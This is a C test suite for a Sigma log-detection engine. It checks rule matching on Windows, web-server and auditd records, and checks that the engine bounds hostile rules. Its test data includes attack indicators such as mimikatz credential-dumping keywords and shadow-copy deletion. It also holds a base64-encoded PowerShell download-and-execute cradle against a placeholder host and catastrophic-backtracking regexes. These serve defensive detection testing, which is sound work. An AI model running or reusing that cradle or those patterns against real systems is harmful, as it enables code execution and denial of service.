/*
 * test_sigma.c - the Sigma engine: each modifier, wildcards and escapes,
 * conditions, null values, keyword lists, the log-source mapping (buckets,
 * renames, "-" as no value), filter rules, load errors with their feature,
 * and hostile rules (deep nesting, huge lists, a catastrophic regex) that
 * must be reported or bounded, never hang.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "sigma/sigma.h"
#include "test.h"
#include "util/util.h"

#define SYSMON1 "logsource:\n  product: windows\n  category: process_creation\n"
#define RULE(det) "title: t\nid: 00000000-0000-0000-0000-000000000001\nlevel: high\n" SYSMON1 "detection:\n" det

typedef struct {
  int matched, undecided;
} counts;

static void on_hit(void *user, const sigma_hit *h, const sigma_record *r) {
  (void)r;
  counts *c = user;
  if (h->undecided) c->undecided++;
  else c->matched++;
}

/* Evaluates one rule on a record: kv is name, value, ..., NULL.  Returns 1
 * on a match, 0 on none, 2 undecided, -1 if the rule did not load. */
static int eval_rec(const char *yaml, const sigma_record *proto, const char *const *kv) {
  sigma_ruleset *rs = sigma_ruleset_new();
  long n = sigma_ruleset_add_text(rs, yaml, strlen(yaml), "test.yml");
  sigma_ruleset_finish(rs);
  if (n != 1) {
    for (size_t i = 0; i < sigma_ruleset_error_count(rs); i++)
      fprintf(stderr, "  (load: %s: %s)\n", sigma_ruleset_error(rs, i)->feature, sigma_ruleset_error(rs, i)->message);
    sigma_ruleset_free(rs);
    return -1;
  }
  sigma_field f[32];
  size_t nf = 0;
  for (; kv[2 * nf]; nf++) f[nf] = (sigma_field){kv[2 * nf], kv[2 * nf + 1]};
  sigma_record r = *proto;
  r.fields = f, r.nfields = nf;
  sigma_scratch *s = sigma_scratch_new(rs);
  counts c = {0, 0};
  sigma_eval(s, &r, on_hit, &c);
  sigma_scratch_free(s);
  sigma_ruleset_free(rs);
  return c.undecided ? 2 : c.matched ? 1 : 0;
}

static const sigma_record sysmon1 = {"windows", NULL, NULL, "Microsoft-Windows-Sysmon/Operational",
                                     "Microsoft-Windows-Sysmon", 1, NULL, 0};

/* A rule of the detection text det (a literal or not) on a Sysmon 1 record. */
static int md(const char *det, const char *const *kv) {
  char *y = xasprintf("%s%s", RULE(""), det);
  int r = eval_rec(y, &sysmon1, kv);
  free(y);
  return r;
}
#define M(det, ...) md(det, (const char *const[]){__VA_ARGS__, NULL})

/* The feature of the first load error of a rule text, or "" if it loads. */
static char feature[64];
static const char *load_error(const char *yaml) {
  sigma_ruleset *rs = sigma_ruleset_new();
  sigma_ruleset_add_text(rs, yaml, strlen(yaml), "t.yml");
  sigma_ruleset_finish(rs);
  snprintf(feature, sizeof feature, "%s", sigma_ruleset_error_count(rs) ? sigma_ruleset_error(rs, 0)->feature : "");
  sigma_ruleset_free(rs);
  return feature;
}

static void test_plain_and_wildcards(void) {
  CHECK(M("  s:\n    Image: 'C:\\Windows\\System32\\whoami.exe'\n  condition: s", "Image", "c:\\windows\\system32\\WHOAMI.EXE") == 1);
  CHECK(M("  s:\n    Image: 'C:\\Windows\\System32\\whoami.exe'\n  condition: s", "Image", "c:\\windows\\system32\\whoami.exe2") == 0);
  CHECK(M("  s:\n    Image: '*\\who?mi.exe'\n  condition: s", "Image", "C:\\x\\whoAmi.exe") == 1);
  CHECK(M("  s:\n    Image: '*\\who?mi.exe'\n  condition: s", "Image", "C:\\x\\whomi.exe") == 0);
  CHECK(M("  s:\n    Image: 'a*b*c'\n  condition: s", "Image", "axxbyyc") == 1);
  CHECK(M("  s:\n    Image: 'a*b*c'\n  condition: s", "Image", "axxbyycd") == 0);
  /* `?` is one character, also a multi-byte one */
  CHECK(M("  s:\n    Image: 'caf?'\n  condition: s", "Image", "caf\xc3\xa9") == 1);
  /* escapes: \* is a star, \\* a backslash then a wildcard */
  CHECK(M("  s:\n    CommandLine: 'a\\*b'\n  condition: s", "CommandLine", "a*b") == 1);
  CHECK(M("  s:\n    CommandLine: 'a\\*b'\n  condition: s", "CommandLine", "axxb") == 0);
  CHECK(M("  s:\n    CommandLine: 'a\\\\*'\n  condition: s", "CommandLine", "a\\anything") == 1);
  CHECK(M("  s:\n    CommandLine: 'a\\\\\\*'\n  condition: s", "CommandLine", "a\\*") == 1);
  CHECK(M("  s:\n    CommandLine: 'a\\\\\\*'\n  condition: s", "CommandLine", "a\\x") == 0);
  /* integers compare as numbers too; an absent field never matches a value */
  CHECK(M("  s:\n    LogonType: 10\n  condition: s", "LogonType", "0xA") == 1);
  CHECK(M("  s:\n    LogonType: 10\n  condition: s", "Other", "10") == 0);
  /* field names are case-insensitive, values too */
  CHECK(M("  s:\n    commandline|contains: 'MIMIKATZ'\n  condition: s", "CommandLine", "x mimikatz y") == 1);
}

static void test_string_modifiers(void) {
  CHECK(M("  s:\n    CommandLine|contains: 'vssadmin delete'\n  condition: s", "CommandLine", "c:\\VSSADMIN Delete shadows") == 1);
  CHECK(M("  s:\n    CommandLine|startswith: 'net '\n  condition: s", "CommandLine", "net user") == 1);
  CHECK(M("  s:\n    CommandLine|startswith: 'net '\n  condition: s", "CommandLine", " net user") == 0);
  CHECK(M("  s:\n    Image|endswith:\n      - '\\a.exe'\n      - '\\b.exe'\n  condition: s", "Image", "C:\\B.EXE") == 1);
  CHECK(M("  s:\n    CommandLine|contains|all:\n      - '-nop'\n      - '-enc'\n  condition: s", "CommandLine", "ps -enc x -nop") == 1);
  CHECK(M("  s:\n    CommandLine|contains|all:\n      - '-nop'\n      - '-enc'\n  condition: s", "CommandLine", "ps -enc x") == 0);
  /* cased */
  CHECK(M("  s:\n    CommandLine|contains|cased: 'Invoke-'\n  condition: s", "CommandLine", "x Invoke-Mimikatz") == 1);
  CHECK(M("  s:\n    CommandLine|contains|cased: 'Invoke-'\n  condition: s", "CommandLine", "x invoke-mimikatz") == 0);
  /* windash: a dash or slash starting a word, every form */
  const char *wd = "  s:\n    CommandLine|windash|contains: ' -exec bypass'\n  condition: s";
  CHECK(M(wd, "CommandLine", "powershell /exec bypass") == 1);
  CHECK(M(wd, "CommandLine", "powershell \xe2\x80\x93" "exec bypass") == 1);
  CHECK(M(wd, "CommandLine", "powershell \xe2\x80\x95" "exec bypass") == 1);
  CHECK(M(wd, "CommandLine", "powershell +exec bypass") == 0);
  /* a dash inside a word is not one */
  CHECK(M("  s:\n    CommandLine|windash|contains: 'a-b'\n  condition: s", "CommandLine", "a/b") == 0);
}

static void test_regex(void) {
  CHECK(M("  s:\n    CommandLine|re: 'net\\s+user'\n  condition: s", "CommandLine", "net   user x") == 1);
  CHECK(M("  s:\n    CommandLine|re: 'NET\\s+user'\n  condition: s", "CommandLine", "net user") == 0); /* case-sensitive */
  CHECK(M("  s:\n    CommandLine|re|i: 'NET\\s+user'\n  condition: s", "CommandLine", "net user") == 1);
  CHECK(M("  s:\n    CommandLine|re: '^b$'\n  condition: s", "CommandLine", "a\nb\nc") == 0);
  CHECK(M("  s:\n    CommandLine|re|m: '^b$'\n  condition: s", "CommandLine", "a\nb\nc") == 1);
  CHECK(M("  s:\n    CommandLine|re: 'a.c'\n  condition: s", "CommandLine", "a\nc") == 0);
  CHECK(M("  s:\n    CommandLine|re|s: 'a.c'\n  condition: s", "CommandLine", "a\nc") == 1);
  CHECK(strcmp(load_error(RULE("  s:\n    CommandLine|re: 'a(b'\n  condition: s")), "regex") == 0);
  CHECK(strcmp(load_error(RULE("  s:\n    CommandLine|i: 'a'\n  condition: s")), "modifier") == 0);
}

static void test_encodings(void) {
  /* base64 of "whoami /all", and base64offset finding "IEX (" at every shift */
  CHECK(M("  s:\n    CommandLine|base64|contains: 'whoami /all'\n  condition: s", "CommandLine", "x d2hvYW1pIC9hbGw= y") == 1);
  CHECK(M("  s:\n    CommandLine|base64|contains: 'whoami /all'\n  condition: s", "CommandLine", "x d2hvYW1pIC9wcml2 y") == 0);
  CHECK(M("  s:\n    CommandLine|base64offset|contains: 'IEX (echo'\n  condition: s", "CommandLine", "eHl6LUlFWCAoZWNobyBoaSk=") == 1);
  CHECK(M("  s:\n    CommandLine|base64offset|contains: 'IEX (echx'\n  condition: s", "CommandLine", "eHl6LUlFWCAoZWNobyBoaSk=") == 0);
  /* UTF-16LE then base64offset: PowerShell -EncodedCommand */
  const char *enc = "aQBlAHgAKABuAGUAdwAtAG8AYgBqAGUAYwB0ACAAbgBlAHQALgB3AGUAYgBjAGwAaQBlAG4AdAApAC4AZABvAHcAbgBsAG8AYQBkAHMA"
                    "dAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAHgAJwApAA==";
  CHECK(M("  s:\n    CommandLine|wide|base64offset|contains: 'downloadstring'\n  condition: s", "CommandLine", enc) == 1);
  CHECK(M("  s:\n    CommandLine|utf16le|base64offset|contains: 'net.webclient'\n  condition: s", "CommandLine", enc) == 1);
  CHECK(M("  s:\n    CommandLine|wide|base64offset|contains: 'downloadfile'\n  condition: s", "CommandLine", enc) == 0);
  CHECK(M("  s:\n    CommandLine|base64offset|contains: 'downloadstring'\n  condition: s", "CommandLine", enc) == 0);
  CHECK(strcmp(load_error(RULE("  s:\n    CommandLine|base64: 'a*b'\n  condition: s")), "wildcard-in-encoded-value") == 0);
  /* UTF-16 without base64 holds NUL bytes: it loads, and no text value matches it (found by fuzz_sigma_load) */
  CHECK(M("  s:\n    Image|startswith|wide: 'abcd'\n  condition: s", "Image", "abcd") == 0);
}

static void test_cidr_numbers_exists_fieldref(void) {
  const char *c4 = "  s:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '192.168.0.0/16'\n  condition: s";
  CHECK(M(c4, "DestinationIp", "10.20.30.40") == 1);
  CHECK(M(c4, "DestinationIp", "11.0.0.1") == 0);
  CHECK(M(c4, "DestinationIp", "not an ip") == 0);
  const char *c6 = "  s:\n    DestinationIp|cidr: 'fe80::/10'\n  condition: s";
  CHECK(M(c6, "DestinationIp", "fe80::1") == 1);
  CHECK(M(c6, "DestinationIp", "fec0::1") == 0);
  CHECK(M(c6, "DestinationIp", "10.0.0.1") == 0);
  CHECK(strcmp(load_error(RULE("  s:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: s")), "cidr") == 0);
  CHECK(M("  s:\n    Size|gt: 100\n  condition: s", "Size", "101") == 1);
  CHECK(M("  s:\n    Size|gt: 100\n  condition: s", "Size", "100") == 0);
  CHECK(M("  s:\n    Size|gte: 100\n  condition: s", "Size", "100") == 1);
  CHECK(M("  s:\n    Size|lt: 100\n  condition: s", "Size", "0x10") == 1);
  CHECK(M("  s:\n    Size|lte: 1.5\n  condition: s", "Size", "1.5") == 1);
  CHECK(M("  s:\n    Size|lt: 100\n  condition: s", "Size", "abc") == 0);
  CHECK(M("  s:\n    UtcTime|hour: 3\n  condition: s", "UtcTime", "2024-01-02 03:04:05.000") == 1);
  CHECK(M("  s:\n    UtcTime|year|gte: 2025\n  condition: s", "UtcTime", "2024-01-02 03:04:05.000") == 0);
  CHECK(M("  s:\n    UtcTime|week: 1\n  condition: s", "UtcTime", "2024-01-02") == 1);
  CHECK(M("  s:\n    Hashes|exists: true\n  condition: s", "Hashes", "") == 1);
  CHECK(M("  s:\n    Hashes|exists: true\n  condition: s", "Image", "x") == 0);
  CHECK(M("  s:\n    Hashes|exists: false\n  condition: s", "Image", "x") == 1);
  CHECK(M("  s:\n    Image|fieldref: ParentImage\n  condition: s", "Image", "C:\\A.exe", "ParentImage", "c:\\a.exe") == 1);
  CHECK(M("  s:\n    Image|fieldref: ParentImage\n  condition: s", "Image", "C:\\A.exe", "ParentImage", "c:\\b.exe") == 0);
  CHECK(M("  s:\n    Image|fieldref: ParentImage\n  condition: s", "Image", "C:\\A.exe") == 0);
  CHECK(M("  s:\n    CommandLine|fieldref|contains: User\n  condition: s", "CommandLine", "runas bob x", "User", "BOB") == 1);
  CHECK(M("  s:\n    Image|neq: 'a'\n  condition: s", "Image", "b") == 1);
  CHECK(M("  s:\n    Image|neq: 'a'\n  condition: s", "Image", "A") == 0);
  CHECK(strcmp(load_error(RULE("  s:\n    Image|contains|expand: '%Admins%'\n  condition: s")), "placeholder") == 0);
  CHECK(M("  s:\n    Image|contains|expand: 'a\\%b'\n  condition: s", "Image", "xa%by") == 1);
}

static void test_null_and_keywords(void) {
  const char *nul = "  s:\n    Image|endswith: '\\x.exe'\n  f:\n    CommandLine: null\n  condition: s and not f";
  CHECK(M(nul, "Image", "C:\\x.exe", "CommandLine", "x.exe /q") == 1);
  CHECK(M(nul, "Image", "C:\\x.exe") == 0);                   /* absent is null */
  CHECK(M(nul, "Image", "C:\\x.exe", "CommandLine", "") == 0); /* empty is null */
  CHECK(M("  s:\n    CommandLine: ''\n  condition: s", "CommandLine", "") == 1);
  CHECK(M("  s:\n    CommandLine: ''\n  condition: s", "CommandLine", "a") == 0);
  /* keywords: any field, substring, case-insensitive; |all: every one */
  const char *kw = "  keywords:\n    - 'event::clear'\n    - 'lsadump'\n  condition: keywords";
  CHECK(M(kw, "Image", "x", "CommandLine", "mimikatz LSADUMP::sam") == 1);
  CHECK(M(kw, "Image", "x", "CommandLine", "mimikatz sekurlsa") == 0);
  const char *kwall = "  keywords:\n    '|all':\n      - 'OabVirtualDirectory'\n      - ' -ExternalUrl '\n  condition: keywords";
  CHECK(M(kwall, "A", "set-oabvirtualdirectory", "B", "x -externalurl y") == 1);
  CHECK(M(kwall, "A", "set-oabvirtualdirectory", "B", "x -internalurl y") == 0);
  CHECK(M("  keywords: 'needle'\n  condition: keywords", "A", "haystack with NEEDLE") == 1);
}

static void test_conditions(void) {
  const char *det = "  sel_a:\n    A: 'a'\n  sel_b:\n    B: 'b'\n  _hidden:\n    C: 'c'\n  filter:\n    D: 'd'\n";
  char buf[512];
#define COND(c, ...) (snprintf(buf, sizeof buf, RULE("%s  condition: %s"), det, c), \
                      eval_rec(buf, &sysmon1, (const char *const[]){__VA_ARGS__, NULL}))
  CHECK(COND("sel_a and sel_b", "A", "a", "B", "b") == 1);
  CHECK(COND("sel_a and sel_b", "A", "a") == 0);
  CHECK(COND("sel_a or sel_b", "B", "b") == 1);
  CHECK(COND("sel_a and not filter", "A", "a", "D", "d") == 0);
  CHECK(COND("sel_a and not filter", "A", "a") == 1);
  CHECK(COND("not sel_a and not sel_b", "C", "c") == 1);
  CHECK(COND("(sel_a or sel_b) and not filter", "B", "b") == 1);
  CHECK(COND("sel_a or sel_b and filter", "A", "a") == 1); /* and binds tighter */
  CHECK(COND("(sel_a or sel_b) and filter", "A", "a") == 0);
  CHECK(COND("1 of sel_*", "B", "b") == 1);
  CHECK(COND("all of sel_*", "B", "b") == 0);
  CHECK(COND("all of sel_*", "A", "a", "B", "b") == 1);
  CHECK(COND("1 of them", "C", "c") == 0); /* _hidden is not one of them */
  CHECK(COND("1 of them", "D", "d") == 1);
  CHECK(COND("all of them", "A", "a", "B", "b", "D", "d") == 1);
  CHECK(COND("2 of them", "A", "a", "D", "d") == 1);
  CHECK(COND("2 of them", "A", "a") == 0);
  CHECK(COND("not 1 of sel_* and _hidden", "C", "c") == 1);
  CHECK(COND("any of sel*", "A", "a") == 1);
  const char *bad[] = {"sel_a and", "sel_a or or sel_b", "(sel_a", "sel_a)", "nosuch", "1 of nosuch*", "sel_a | count() > 5",
                       "sel_a near sel_b", "", "0 of them"};
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) CHECK(COND(bad[i], "A", "a") == -1);
  snprintf(buf, sizeof buf, RULE("%s  condition: sel_a | count() > 5"), det);
  CHECK(strcmp(load_error(buf), "aggregation") == 0);
  /* a list of conditions is ORed */
  snprintf(buf, sizeof buf, RULE("%s  condition:\n    - sel_a\n    - sel_b"), det);
  CHECK(eval_rec(buf, &sysmon1, (const char *const[]){"B", "b", NULL}) == 1);
#undef COND
}

static void test_logsources(void) {
  /* Security 4688 is process_creation with Sysmon's names */
  sigma_record sec = {"windows", NULL, NULL, "Security", "Microsoft-Windows-Security-Auditing", 4688, NULL, 0};
  const char *pc = RULE("  s:\n    Image|endswith: '\\whoami.exe'\n    ParentImage|endswith: '\\cmd.exe'\n  condition: s");
  CHECK(eval_rec(pc, &sec, (const char *const[]){"NewProcessName", "C:\\W\\whoami.exe", "ParentProcessName", "C:\\W\\cmd.exe", NULL}) == 1);
  /* a process_creation rule does not apply to a Sysmon file event, nor to 4624 */
  sigma_record fe = sysmon1;
  fe.event_id = 11;
  CHECK(eval_rec(pc, &fe, (const char *const[]){"Image", "C:\\whoami.exe", "ParentImage", "C:\\cmd.exe", NULL}) == 0);
  sec.event_id = 4624;
  CHECK(eval_rec(pc, &sec, (const char *const[]){"NewProcessName", "C:\\whoami.exe", "ParentProcessName", "C:\\cmd.exe", NULL}) == 0);
  /* service: security applies to every Security event */
  const char *svc = "title: t\nlogsource:\n  product: windows\n  service: security\ndetection:\n  s:\n    EventID: 4624\n"
                    "  condition: s\n";
  CHECK(eval_rec(svc, &sec, (const char *const[]){"EventID", "4624", NULL}) == 1);
  CHECK(eval_rec(svc, &sysmon1, (const char *const[]){"EventID", "4624", NULL}) == 0);
  /* web server: cs(User-Agent) read as cs-user-agent, "-" is no value */
  sigma_record web = {NULL, "webserver", NULL, NULL, NULL, -1, NULL, 0};
  const char *ws = "title: t\nlogsource:\n  category: webserver\ndetection:\n  s:\n    cs-user-agent|contains: 'sqlmap'\n"
                   "  f:\n    cs-referer: null\n  condition: s and f\n";
  CHECK(eval_rec(ws, &web, (const char *const[]){"cs(User-Agent)", "sqlmap/1.5", "cs(Referer)", "-", NULL}) == 1);
  CHECK(eval_rec(ws, &web, (const char *const[]){"cs(User-Agent)", "sqlmap/1.5", "cs(Referer)", "http://x/", NULL}) == 0);
  CHECK(eval_rec(ws, &sysmon1, (const char *const[]){"cs(User-Agent)", "sqlmap/1.5", NULL}) == 0);
  /* a record stating its own logsource (here Linux auditd) */
  sigma_record aud = {"linux", NULL, "auditd", NULL, NULL, -1, NULL, 0};
  const char *ad = "title: t\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  s:\n    type: EXECVE\n"
                   "  condition: s\n";
  CHECK(eval_rec(ad, &aud, (const char *const[]){"type", "EXECVE", NULL}) == 1);
  /* a mapping of one's own replaces the built-in one; a broken one is reported */
  const char *map = "sources:\n  - logsource: {product: acme, service: fw}\n    when: {channel: 'Acme Firewall'}\n"
                    "    fields: {DestinationIp: dst}\n";
  const char *rule = "title: t\nlogsource:\n  product: acme\n  service: fw\ndetection:\n  s:\n"
                     "    DestinationIp|cidr: 10.0.0.0/8\n  condition: s\n";
  sigma_ruleset *rs = sigma_ruleset_new();
  CHECK(sigma_ruleset_set_mapping(rs, map, strlen(map), "acme.yml") == 0);
  CHECK(sigma_ruleset_set_mapping(rs, "sources: 3\n", 11, "bad.yml") == -1);
  CHECK(sigma_ruleset_error_count(rs) == 1 && strcmp(sigma_ruleset_error(rs, 0)->feature, "mapping") == 0);
  CHECK(sigma_ruleset_add_text(rs, rule, strlen(rule), "r.yml") == 1);
  sigma_ruleset_finish(rs);
  sigma_scratch *s = sigma_scratch_new(rs);
  sigma_field fw[1] = {{"dst", "10.1.2.3"}};
  sigma_record acme = {NULL, NULL, NULL, "Acme Firewall", NULL, -1, fw, 1};
  CHECK(sigma_eval(s, &acme, NULL, NULL) == 1);
  acme.channel = "Other";
  CHECK(sigma_eval(s, &acme, NULL, NULL) == 0);
  sigma_scratch_stats(s);
  sigma_scratch_free(s);
  sigma_ruleset_free(rs);
}

static void test_metadata_filters_errors(void) {
  const char *two = "title: one\nid: 11111111-1111-1111-1111-111111111111\nstatus: test\nauthor: A\nlevel: critical\n"
                    "tags:\n  - attack.t1190\n  - attack.initial-access\nreferences:\n  - https://example.org/a\n"
                    "falsepositives: Unknown\n" SYSMON1 "detection:\n  s:\n    Image|endswith: '\\x.exe'\n  condition: s\n"
                    "---\n"
                    "title: filter admins\nlogsource:\n  product: windows\n  category: process_creation\nfilter:\n"
                    "  rules:\n    - 11111111-1111-1111-1111-111111111111\n  selection:\n    User|startswith: 'adm_'\n"
                    "  condition: selection\n";
  sigma_ruleset *rs = sigma_ruleset_new();
  CHECK(sigma_ruleset_add_text(rs, two, strlen(two), "two.yml") == 1);
  sigma_ruleset_finish(rs);
  CHECK(sigma_ruleset_count(rs) == 1 && sigma_ruleset_filter_count(rs) == 1 && sigma_ruleset_error_count(rs) == 0);
  const sigma_rule *r = sigma_ruleset_rule(rs, 0);
  CHECK_STREQ(r->title, "one");
  CHECK(r->level == SIGMA_LEVEL_CRITICAL);
  CHECK_STREQ(sigma_level_severity(r->level), "critical");
  CHECK(r->tags.n == 2);
  CHECK_STREQ(r->tags.v[1], "attack.initial-access");
  CHECK(r->references.n == 1 && r->falsepositives.n == 1);
  CHECK_STREQ(r->author, "A");
  CHECK_STREQ(r->category, "process_creation");
  sigma_scratch *s = sigma_scratch_new(rs);
  sigma_field f[2] = {{"Image", "C:\\x.exe"}, {"User", "adm_bob"}};
  sigma_record rec = sysmon1;
  rec.fields = f, rec.nfields = 2;
  CHECK(sigma_eval(s, &rec, NULL, NULL) == 0); /* filtered */
  f[1].value = "bob";
  CHECK(sigma_eval(s, &rec, NULL, NULL) == 1);
  sigma_scratch_free(s);
  sigma_ruleset_free(rs);
  CHECK_STREQ(sigma_level_severity(SIGMA_LEVEL_INFORMATIONAL), "low");
  CHECK_STREQ(sigma_level_severity(SIGMA_LEVEL_MEDIUM), "medium");

  CHECK(strcmp(load_error(RULE("  s:\n    Image|frobnicate: 'a'\n  condition: s")), "modifier") == 0);
  CHECK(strcmp(load_error("title: c\ncorrelation:\n  type: event_count\n  rules: [a]\n"), "correlation") == 0);
  CHECK(strcmp(load_error("title: [unclosed\n"), "yaml") == 0);
  CHECK(strcmp(load_error("a: &x 1\nb: *x\n"), "yaml") == 0);
  CHECK(strcmp(load_error("title: a\ntitle: b\n"), "yaml") == 0);
  CHECK(strcmp(load_error(RULE("  s:\n    Image: []\n  condition: s")), "empty-list") == 0);
  CHECK(strcmp(load_error("title: t\ndetection:\n  s: {A: a}\n  condition: s\n"), "logsource") == 0);
  CHECK(strcmp(load_error("title: t\ntaxonomy: ocsf\n" SYSMON1 "detection:\n  s: {A: a}\n  condition: s\n"), "taxonomy") == 0);
  /* one bad document does not stop the others */
  const char *mixed = RULE("  s:\n    A|nope: a\n  condition: s\n") "---\n" RULE("  s:\n    A: a\n  condition: s\n");
  rs = sigma_ruleset_new();
  CHECK(sigma_ruleset_add_text(rs, mixed, strlen(mixed), "m.yml") == 1);
  CHECK(sigma_ruleset_error_count(rs) == 1 && sigma_ruleset_error(rs, 0)->line > 0);
  CHECK(strstr(sigma_ruleset_error(rs, 0)->message, "nope") != NULL);
  sigma_ruleset_free(rs);
  /* a path that does not exist */
  rs = sigma_ruleset_new();
  CHECK(sigma_ruleset_add_path(rs, "/nonexistent/sigma") == -1 && sigma_ruleset_error_count(rs) == 1);
  sigma_ruleset_free(rs);
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void test_hostile(void) {
  strbuf sb = STRBUF_INIT;
  /* a condition nested 10,000 parentheses deep */
  sb_adds(&sb, RULE("  s:\n    A: a\n  condition: "));
  for (int i = 0; i < 10000; i++) sb_addc(&sb, '(');
  sb_adds(&sb, "s");
  for (int i = 0; i < 10000; i++) sb_addc(&sb, ')');
  sb_addc(&sb, '\n');
  CHECK(strcmp(load_error(sb.data), "condition-depth") == 0);
  /* not not not ... */
  sb_reset(&sb);
  sb_adds(&sb, RULE("  s:\n    A: a\n  condition: "));
  for (int i = 0; i < 5000; i++) sb_adds(&sb, "not ");
  sb_adds(&sb, "s\n");
  CHECK(strcmp(load_error(sb.data), "condition-depth") == 0);
  /* YAML nested 1,000 deep */
  sb_reset(&sb);
  for (int i = 0; i < 1000; i++) sb_addc(&sb, '[');
  for (int i = 0; i < 1000; i++) sb_addc(&sb, ']');
  CHECK(strcmp(load_error(sb.data), "yaml") == 0);
  /* 200,000 values in one list */
  sb_reset(&sb);
  sb_adds(&sb, RULE("  s:\n    A|contains:\n"));
  for (int i = 0; i < 200000; i++) sb_addf(&sb, "      - 'v%d'\n", i);
  sb_adds(&sb, "  condition: s\n");
  double t0 = now();
  const char *f = load_error(sb.data);
  CHECK(strcmp(f, "too-many-values") == 0 || strcmp(f, "yaml") == 0);
  CHECK(now() - t0 < 20);
  /* a catastrophic regex on a long value: undecided, quickly */
  char *val = xmalloc(50001);
  memset(val, 'a', 50000);
  val[50000] = '\0';
  t0 = now();
  int r = M("  s:\n    CommandLine|re: '^(a+)+$'\n  condition: s", "CommandLine", val);
  val[49999] = 'b';
  r = M("  s:\n    CommandLine|re: '^(a|a)+$'\n  condition: s", "CommandLine", val);
  CHECK(r == 2 || r == 0);
  r = M("  s:\n    CommandLine|re: '^(x+x+)+$'\n  condition: s", "CommandLine", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx!");
  CHECK(r == 2);
  CHECK(now() - t0 < 20);
  /* a glob with many stars on a long value stays polynomial */
  memset(val, 'a', 50000);
  t0 = now();
  CHECK(M("  s:\n    CommandLine: '*a*a*a*a*a*a*a*a*a*b'\n  condition: s", "CommandLine", val) == 0);
  CHECK(now() - t0 < 20);
  free(val);
  /* windash with too many dashes is refused */
  CHECK(strcmp(load_error(RULE("  s:\n    A|windash|contains: ' -a -b -c -d -e -f'\n  condition: s")), "windash") == 0);
  sb_free(&sb);
}

int main(void) {
  RUN(test_plain_and_wildcards);
  RUN(test_string_modifiers);
  RUN(test_regex);
  RUN(test_encodings);
  RUN(test_cidr_numbers_exists_fieldref);
  RUN(test_null_and_keywords);
  RUN(test_conditions);
  RUN(test_logsources);
  RUN(test_metadata_filters_errors);
  RUN(test_hostile);
  TEST_END();
}
